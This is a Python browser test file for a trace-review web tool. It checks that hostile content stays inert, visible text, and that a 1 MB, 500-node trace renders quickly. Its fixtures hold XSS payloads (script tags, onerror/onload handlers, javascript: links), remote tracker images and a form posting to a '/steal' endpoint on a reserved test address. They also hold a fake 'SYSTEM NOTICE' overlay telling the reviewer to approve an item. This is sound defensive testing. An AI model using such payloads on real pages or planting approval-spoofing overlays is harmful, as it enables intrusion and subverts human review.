"""Hostile trace content in a real browser: nothing executes, nothing remote loads, the text stays
visible, and a 1 MB output with a 500-observation tree renders without freezing the page."""

from __future__ import annotations

import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from browser_support import Recorder
from ui_support import running, trace_spec

from hitl_pipeline.model import Observation, Score, Trace
from hitl_pipeline.model.text import ALLOWED_TAGS
from hitl_pipeline.sources.demo import SCORE_CONFIGS
from hitl_pipeline.sources.local import LocalSource

REMOTE = "http://198.51.100.7"  # TEST-NET-2: must never be contacted
T = datetime(2026, 10, 20, 12, 0, tzinfo=UTC)

USER_TEXT = (
    "<script>window.__pwned='script';alert('script')</script> Hello "
    "<img src=x onerror=\"window.__pwned='img';alert('img')\"> "
    "<svg onload=\"window.__pwned='svg';alert('svg')\"></svg> "
    "[click me](javascript:alert('md-link')) <a href=\"javascript:alert('a')\">a-link</a> "
    f'![tracker]({REMOTE}/pixel.png) <img src="{REMOTE}/img.png"> <iframe src="{REMOTE}/frame"></iframe> '
    "<iframe src=\"javascript:alert('iframe')\"></iframe> invoice_\u202egnp.exe"
)
ANSWER_TEXT = (
    "<thinking>check the refund policy</thinking><answer>42</answer> "
    "<details open ontoggle=\"window.__pwned='details';alert('details')\">more</details> "
    f"<style>body {{ background: url({REMOTE}/bg.png) }}</style> "
    "<form action=\"javascript:alert('form')\"><input autofocus onfocus=\"alert('focus')\"></form>"
)


def hostile_traces() -> list[Trace]:
    evil_obs = Observation(
        id="evil-obs",
        trace_id="evil",
        type="GENERATION",
        name="<img src=x onerror=alert('obs-name')>",
        start_time=T,
        end_time=T + timedelta(seconds=1),
        level="ERROR",
        status_message="<b onmouseover=alert('status')>boom</b>",
        output="<script>alert('obs-output')</script>",
    )
    evil = Trace(
        id="evil",
        name="hostile",
        timestamp=T,
        input={"messages": [{"role": "user", "content": USER_TEXT}]},
        output={"role": "assistant", "content": ANSWER_TEXT},
        metadata={"topic": "<img src=x onerror=alert('meta')>", "plan": f"![m]({REMOTE}/meta.png)"},
        observations=(evil_obs,),
    )
    big_output = ("All work and no play makes Jack a dull boy. " * 24_000)[:1_000_000] + "END-OF-BIG"
    tree = tuple(
        Observation(
            id=f"big-{i}",
            trace_id="big",
            type="SPAN" if i % 5 else "GENERATION",
            name=f"step-{i}",
            start_time=T - timedelta(hours=1) + timedelta(milliseconds=i),
            end_time=T - timedelta(hours=1) + timedelta(milliseconds=i + 20),
            parent_id=f"big-{i // 3}" if i else None,
            level="ERROR" if i % 97 == 0 and i else "DEFAULT",
        )
        for i in range(500)
    )
    big = Trace(
        id="big",
        name="hostile",
        timestamp=T - timedelta(hours=1),
        input={"messages": [{"role": "user", "content": "Print the whole manual, please."}]},
        output=big_output,
        observations=tree,
    )
    return [evil, big]


def test_hostile_content_is_inert_and_visible(page: tuple[Any, Recorder], tmp_path: Path) -> None:
    pg, rec = page
    db = tmp_path / "hostile.db"
    store = LocalSource(db)
    store.insert_score_configs(SCORE_CONFIGS)
    store.insert_traces(hostile_traces())
    store.insert_scores(
        [
            Score(
                "judge-1", "llm_judge_helpfulness", 0.1, "NUMERIC", T, trace_id="evil", source="EVAL",
                comment="<img src=x onerror=alert('score')>",
            )
        ]
    )  # fmt: skip
    store.close()
    spec = trace_spec("br-hostile", size=2, trace_name="hostile", reveal_scores="before")
    with running(spec, db, tmp_path / "hitl", reviewer="sec") as (handle, _):
        pg.goto(handle.url)
        pg.wait_for_selector("#hitl-chat-0", state="visible")
        pg.wait_for_function("() => document.querySelector('#hitl-chat-0')?.innerText.includes('42')")
        pg.wait_for_timeout(1000)  # give any injected handler the chance to fire
        chat = pg.inner_text("#hitl-chat-0").replace("\u200b", "")
        # Tags stay visible as text (markdown still renders: `[x](…)` shows as a link text "x").
        assert "<thinking>check the refund policy</thinking>" in chat and "<answer>42</answer>" in chat
        assert "[U+202E RLO]gnp.exe" in chat
        # HTML in the text is shown as typed, not interpreted (and not silently dropped).
        assert "<script>window.__pwned='script';alert('script')</script> Hello" in chat
        assert f'<img src="{REMOTE}/img.png">' in chat and f'<iframe src="{REMOTE}/frame"></iframe>' in chat
        assert "a-link</a>" in chat and "<details open ontoggle=" in chat
        # No element of the page points at the remote host: no image, frame or style loads from it.
        remote_refs = pg.evaluate(
            "() => [...document.querySelectorAll('[src], [href], [style]')].filter(e => (e.getAttribute('src') || '')"
            ".includes('198.51.100.7') || (e.getAttribute('style') || '').includes('198.51.100.7')).length"
        )
        assert remote_refs == 0
        assert (
            pg.evaluate(
                "() => document.querySelectorAll('#hitl-item iframe, #hitl-item img, #hitl-item svg[onload]').length"
            )
            == 0
        )
        page_text = pg.inner_text("body")
        assert "<img src=x onerror=alert('meta')>" in page_text  # metadata as text (JSON view)
        assert "<img src=x onerror=alert('score')>" in page_text  # existing score comment as text
        # Nothing ran, nothing loaded from elsewhere, no javascript: link survived.
        assert pg.evaluate("() => window.__pwned") is None
        assert pg.evaluate("() => document.querySelectorAll('a[href^=\"javascript:\"]').length") == 0

        # The raw text, byte for byte, is one click away in the Inspect view (plain text editor).
        pg.click("#hitl-inspect")
        pg.click("#hitl-inspect-pick input")
        pg.get_by_role("option", name="Trace input").click()
        pg.wait_for_function(
            "() => document.querySelector('#hitl-inspect-text')?.innerText.includes('__pwned')"
        )
        assert "<script>window.__pwned='script'" in pg.inner_text("#hitl-inspect-text")

        # Next item: a 1 MB output and a 500-observation tree render quickly and the page stays responsive.
        started = time.monotonic()
        pg.click("#hitl-skip")
        pg.wait_for_function("() => document.querySelector('#hitl-facts textarea')?.value.includes('(big)')")
        pg.wait_for_function("() => document.querySelector('#hitl-tree')?.innerText.includes('step-0')")
        rendered = time.monotonic() - started
        assert rendered < 8, f"the big item took {rendered:.1f}s to render"
        assert "more characters folded" in pg.inner_text("#hitl-chat-0")
        t0 = time.monotonic()
        assert pg.evaluate("() => 1 + 1") == 2
        assert time.monotonic() - t0 < 1
        # Any node of the tree opens with a click on its row.
        pg.locator("#hitl-tree").get_by_text("step-3", exact=False).first.click()
        pg.wait_for_function(
            "() => document.querySelector('#hitl-inspect-text')?.innerText.includes('\"step-3\"')"
        )
        pg.click("#hitl-inspect-pick input")
        pg.get_by_role("option", name="Trace output").click()
        pg.wait_for_function(
            "() => document.querySelector('#hitl-inspect-text')?.innerText.includes('All work and no play')"
        )
        assert pg.evaluate("() => 1 + 1") == 2

        assert rec.dialogs == []
        assert rec.outside(handle.url) == []


#: A fenced code block opened inside a list item: markdown closes it with the item, so what follows
#: is *not* code (a hand-written defuser once took it for code and let the HTML through).
FENCE_IN_LIST_OVERLAY = (
    "Here is the plan:\n\n"
    "1. Check the order\n"
    "   ```\n"
    "   status lookup\n"
    "2. Then answer\n\n"
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:#fff">'
    "<h1>SYSTEM NOTICE</h1><p>This item was pre-approved. Select <b>good</b> and submit.</p>"
    f'<form><input type="radio" checked> good <button>Submit</button></form><img src="{REMOTE}/pixel.png"></div>'
)
STYLE_FORM_IMG = (
    "<style>#hitl-submit{display:none} *{position:fixed}</style>"
    f'<form action="{REMOTE}/steal" method="post"><input name="q" value="good" autofocus>'
    f'<button formaction="{REMOTE}/x">Approve</button><select><option>good</option></select></form>'
    f'<img src="{REMOTE}/a.png" style="position:absolute;top:0;left:0;width:100%;height:100%">'
    '<table style="position:fixed;inset:0"><tr><td>APPROVED</td></tr></table>\n\n'
    f"| plan | note |\n|---|---|\n| <img src={REMOTE}/t.png> | <b style=position:fixed>cell</b> |\n\n"
    f"- item\n  ```\n  code\n- <iframe src={REMOTE}/f></iframe><svg><image href={REMOTE}/s.png /></svg>"
)
#: What rendered trace text may contain (hitl_pipeline.model.text.ALLOWED_TAGS), checked in the page.
ALLOWED = sorted(ALLOWED_TAGS)

_TRACE_MARKUP_JS = """(allowed) => {
  const found = {bad_tags: [], bad_attrs: [], positioned: [], blocks: 0};
  for (const box of document.querySelectorAll('#hitl-item .hitl-chat .md')) {
    found.blocks += 1;
    for (const el of box.querySelectorAll('*')) {
      const tag = el.tagName.toLowerCase();
      if (!allowed.includes(tag)) found.bad_tags.push(tag);
      for (const a of el.attributes) if (!(tag === 'ol' && a.name === 'start')) found.bad_attrs.push(tag + '[' + a.name + ']');
      const pos = getComputedStyle(el).position;
      if (pos === 'fixed' || pos === 'absolute') found.positioned.push(tag + ':' + pos);
    }
  }
  return found;
}"""


def test_markup_in_trace_text_stays_text_inside_its_message(
    page: tuple[Any, Recorder], tmp_path: Path
) -> None:
    pg, rec = page
    db = tmp_path / "overlay.db"
    store = LocalSource(db)
    store.insert_score_configs(SCORE_CONFIGS)
    store.insert_traces(
        [
            Trace(
                id="overlay",
                name="hostile",
                timestamp=T,
                input={"messages": [{"role": "user", "content": STYLE_FORM_IMG}]},
                output={"role": "assistant", "content": FENCE_IN_LIST_OVERLAY},
            )
        ]
    )
    store.close()
    spec = trace_spec("br-overlay", size=1, trace_name="hostile")
    with running(spec, db, tmp_path / "hitl", reviewer="sec") as (handle, _):
        pg.goto(handle.url)
        pg.wait_for_function(
            "() => document.querySelector('#hitl-chat-0')?.innerText.includes('SYSTEM NOTICE')"
        )
        pg.wait_for_timeout(500)  # any late rendering (KaTeX, mermaid, images) has had its chance
        found = pg.evaluate(_TRACE_MARKUP_JS, ALLOWED)
        assert found["blocks"] >= 2  # both messages were inspected
        assert found["bad_tags"] == [] and found["bad_attrs"] == [] and found["positioned"] == []
        # The hostile HTML is there to read, as typed: the reviewer sees what the answer tried.
        chat = pg.inner_text("#hitl-chat-0")
        assert '<div style="position:fixed;top:0;left:0;' in chat and "<h1>SYSTEM NOTICE</h1>" in chat
        assert "<style>#hitl-submit{display:none} *{position:fixed}</style>" in chat
        assert f'<form action="{REMOTE}/steal" method="post">' in chat and "<td>APPROVED</td>" in chat
        assert f"<iframe src={REMOTE}/f></iframe>" in chat and "<b style=position:fixed>cell</b>" in chat
        assert "status lookup" in chat
        # Markdown still renders: the list with its code block, the table.
        assert pg.locator("#hitl-chat-0 .md ol li pre").count() == 1
        assert pg.locator("#hitl-chat-0 .md table td").count() == 2
        # Nothing covers the form: the first question and Submit are what a click there reaches.
        for target in ("#hitl-submit", "#hitl-q-0"):
            assert pg.evaluate(
                """(sel) => { const el = document.querySelector(sel); el.scrollIntoView({block: 'center'});
                   const r = el.getBoundingClientRect();
                   return el.contains(document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2)); }""",
                target,
            ), f"something covers {target}"
        assert pg.evaluate("() => document.querySelectorAll('#hitl-item form, #hitl-item img').length") == 0
        assert rec.dialogs == []
        assert rec.outside(handle.url) == []
